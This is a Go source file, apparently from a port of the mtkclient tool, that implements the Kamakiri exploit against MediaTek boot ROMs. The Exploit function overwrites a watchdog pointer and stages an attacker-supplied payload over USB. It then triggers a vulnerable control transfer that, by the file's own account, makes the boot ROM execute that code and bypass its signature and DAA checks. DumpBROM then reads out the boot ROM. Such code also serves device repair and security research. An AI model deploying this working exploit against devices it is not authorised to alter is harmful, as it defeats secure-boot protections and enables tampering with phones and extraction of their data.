// Package exploit implements the Kamakiri BROM exploit (spec.md §4.4): a
// watchdog-pointer overwrite combined with a staged payload length and a
// vulnerable USB control transfer that causes the BROM to execute
// attacker-supplied code, bypassing SEND_DA's signature/DAA checks.
package exploit

import (
	"encoding/binary"

	"github.com/satyamisme/mtkclient/chipconfig"
	"github.com/satyamisme/mtkclient/logx"
	"github.com/satyamisme/mtkclient/mtkerr"
	"github.com/satyamisme/mtkclient/mtkio"
	"github.com/satyamisme/mtkclient/preloader"
)

const (
	watchdogPointerOffset = 0x50
	trailingWatchdogWord  = 0x10007000
	precedingUARTWord     = 0x11002000
	signaturePlaceholder  = 0x100

	triggerOpcode = 0xE0
)

// FixPayload rewrites the two well-known placeholder words the original
// toolchain's generic payloads carry (a trailing watchdog address and the
// UART address preceding it), pads to a 4-byte boundary, and — for DA
// payloads, not raw exploit payloads — appends a 0x100-byte signature
// placeholder (spec §4.4).
func FixPayload(payload []byte, cfg chipconfig.Entry, forDA bool) []byte {
	out := append([]byte(nil), payload...)

	if len(out) >= 4 {
		if binary.LittleEndian.Uint32(out[len(out)-4:]) == trailingWatchdogWord {
			binary.LittleEndian.PutUint32(out[len(out)-4:], cfg.WatchdogAddr)
		}
	}
	if len(out) >= 8 {
		if binary.LittleEndian.Uint32(out[len(out)-8:len(out)-4]) == precedingUARTWord {
			binary.LittleEndian.PutUint32(out[len(out)-8:len(out)-4], cfg.UARTAddr)
		}
	}

	for len(out)%4 != 0 {
		out = append(out, 0)
	}
	if forDA {
		out = append(out, make([]byte, signaturePlaceholder)...)
	}
	return out
}

// Kamakiri drives the exploit over a Preloader session.
type Kamakiri struct {
	pl  *preloader.Preloader
	dev mtkio.Device
	log logx.Logger
}

// New builds a Kamakiri driver. pl and dev must share the same underlying
// connection: pl is used for the WRITE32/READ32 staging steps, dev for the
// raw bulk write and the triggering control transfer.
func New(pl *preloader.Preloader, dev mtkio.Device, log logx.Logger) *Kamakiri {
	if log == nil {
		log = logx.Nop
	}
	return &Kamakiri{pl: pl, dev: dev, log: log}
}

func byteSwap32(v uint32) uint32 {
	var b [4]byte
	binary.LittleEndian.PutUint32(b[:], v)
	return binary.BigEndian.Uint32(b[:])
}

// Exploit arms the watchdog-pointer overwrite, stages payload at
// payloadAddr, and fires the vulnerable control transfer (spec §4.4 steps
// 1-5). var1 selects the BROM handler; callers doing a known-chip run pass
// cfg.Var1, while Bruteforce iterates it directly.
func (k *Kamakiri) Exploit(payload []byte, payloadAddr uint32, watchdogAddr uint32, var1 byte) error {
	addr := watchdogAddr + watchdogPointerOffset

	if err := k.pl.Write32(addr, []uint32{byteSwap32(payloadAddr)}); err != nil {
		return &mtkerr.Exploit{Msg: "arming watchdog pointer: " + err.Error()}
	}

	// Flush latent caches by reading back 0xF words around the write.
	for i := 0; i < 0xF; i++ {
		count := 0xF - i + 1
		readAddr := addr - uint32(0xF-i)*4
		if _, err := k.pl.Read32(readAddr, count); err != nil {
			return &mtkerr.Exploit{Msg: "cache-flush readback: " + err.Error()}
		}
	}

	if ok, err := k.dev.Echo([]byte{triggerOpcode}); err != nil {
		return &mtkerr.Exploit{Msg: "trigger echo: " + err.Error()}
	} else if !ok {
		return &mtkerr.Exploit{Msg: "trigger opcode not echoed"}
	}

	lenBuf := make([]byte, 4)
	binary.BigEndian.PutUint32(lenBuf, uint32(len(payload)))
	if ok, err := k.dev.Echo(lenBuf); err != nil {
		return &mtkerr.Exploit{Msg: "payload length echo: " + err.Error()}
	} else if !ok {
		return &mtkerr.Exploit{Msg: "payload length not echoed"}
	}

	statusBuf, err := k.dev.Read(2, 64)
	if err != nil {
		return &mtkerr.Exploit{Msg: "reading staging status: " + err.Error()}
	}
	if len(statusBuf) != 2 {
		return &mtkerr.Exploit{Msg: "short staging status"}
	}
	if binary.LittleEndian.Uint16(statusBuf) != 0 {
		return &mtkerr.Exploit{Msg: "payload too large"}
	}

	if _, err := k.dev.Write(payload); err != nil {
		return &mtkerr.Exploit{Msg: "writing payload: " + err.Error()}
	}
	// Two acknowledgment words, discarded (spec §4.4 step 4).
	if _, err := k.dev.Read(2, 64); err != nil {
		return &mtkerr.Exploit{Msg: "reading ack 1: " + err.Error()}
	}
	if _, err := k.dev.Read(2, 64); err != nil {
		return &mtkerr.Exploit{Msg: "reading ack 2: " + err.Error()}
	}

	k.log.Debugf("triggering control transfer with var1=0x%02x", var1)

	// The vulnerable BROM handler is expected to stall this request once
	// it jumps into the payload; per spec's open questions, the original
	// catches and ignores that stall and this preserves the same
	// catch-and-ignore semantics rather than treating it as fatal.
	_, _ = k.dev.ControlTransfer(0xA1, 0, 0, uint16(var1), nil)

	return nil
}

// DumpBROM reads n bytes from BROM address 0 in 16-byte chunks, as done
// immediately after a successful Exploit whose payload echoes memory back
// on the bulk-in endpoint (spec Scenario S1).
func (k *Kamakiri) DumpBROM(n int, progress func(done int)) ([]byte, error) {
	out := make([]byte, 0, n)
	for len(out) < n {
		chunk, err := k.dev.Read(16, 16)
		if err != nil {
			return out, &mtkerr.Exploit{Msg: "dump read: " + err.Error()}
		}
		if len(chunk) == 0 {
			return out, &mtkerr.Exploit{Msg: "BROM dump stalled"}
		}
		out = append(out, chunk...)
		if progress != nil {
			progress(len(out))
		}
	}
	return out[:n], nil
}
